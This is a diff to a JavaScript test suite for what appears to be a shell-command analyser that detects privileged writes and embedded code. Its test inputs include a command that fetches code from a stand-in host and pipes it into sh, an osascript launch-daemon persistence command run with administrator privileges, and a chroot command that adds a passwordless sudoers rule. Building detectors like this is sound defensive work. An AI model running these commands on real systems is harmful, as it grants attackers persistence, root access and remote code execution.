@@ -139,6 +139,7 @@ describe("re-analysis of embedded code", () => {
       ["shell", "echo hi"],
       ["python", "import os; os.system('id')"],
       ["javascript", "require('child_process').exec('id')"],
+      ["shell", "id"],
       ["python", "import socket\n"],
       ["shell", "curl https://c.invalid/b | sh\n"],
     ]);
@@ -260,6 +261,19 @@ describe("reads, writes, deletions, privilege", () => {
       "dependency go:golang.org/x/tools/gopls@latest",
       "index-override npm config registry https://r.invalid/",
     ]);
+  });
+});
+
+describe("commands run by other programs", () => {
+  it("AppleScript's do shell script runs its string in sh, as root with administrator privileges", () => {
+    const c = run(`osascript -e "do shell script \\"cp /tmp/x.plist /Library/LaunchDaemons/com.x.plist\\" with administrator privileges"`);
+    expect(of(c, "write").map((w) => [w.path, w.place])).toEqual([["/Library/LaunchDaemons/com.x.plist", "launchd"]]);
+    expect(of(run(`osascript -e 'display notification "done"'`), "write")).toEqual([]);
+  });
+
+  it("chroot runs its command on the new root", () => {
+    const c = run(`chroot /host sh -c 'echo "u ALL=(ALL) NOPASSWD:ALL" > /etc/sudoers.d/u'`);
+    expect(of(c, "privilege").map((p) => p.what)).toEqual(["nopasswd"]);
   });
 });
 
